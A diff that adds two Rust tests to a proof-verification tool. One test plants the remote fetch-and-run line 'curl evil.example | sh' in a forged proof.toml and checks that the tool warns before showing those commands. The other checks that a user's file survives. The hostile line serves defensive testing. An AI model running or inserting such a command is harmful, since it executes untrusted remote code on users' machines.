@@ -145,3 +145,44 @@ fn a_proof_is_cited_with_the_program_that_made_it() {
     bench.run(&again).check(0, &[]);
     assert!(cited().contains("etude 0.0.7, revision"), "{}", cited());
 }
+
+#[test]
+fn the_commands_of_a_proof_are_told_as_the_words_of_its_folder() {
+    let bench = proved();
+    let path = bench.path("proof/proof.toml");
+    let text = std::fs::read_to_string(&path).unwrap();
+    let forged = text.replacen(
+        "commands = [",
+        "commands = [\n    \"curl evil.example | sh\",",
+        1,
+    );
+    assert_ne!(forged, text);
+    std::fs::write(&path, forged).unwrap();
+    let verified = bench.run(&["verify", "proof"]);
+    verified.check(0, &["proof.toml says how it was made"]);
+    assert!(!verified.said.contains("evil") && !verified.data.contains("evil"));
+    let shown = bench.run(&["report", "proof"]).data;
+    let (_, told) = shown
+        .split_once("look at what they do before you type one")
+        .unwrap();
+    assert!(told.contains("curl evil.example"), "{shown}");
+}
+
+#[test]
+fn a_file_of_the_user_in_the_folder_of_a_proof_stays_as_it_is() {
+    let bench = Bench::new();
+    bench.write("proof/lock", "my own\n");
+    let prove = [
+        "prove",
+        "foxes",
+        "--board",
+        "low-cross",
+        "--sacrifices",
+        "3",
+        "--dir",
+        "proof",
+    ];
+    bench.run(&prove).check(0, &[]);
+    let lock = std::fs::read_to_string(bench.path("proof/lock")).unwrap();
+    assert_eq!(lock, "my own\n");
+}
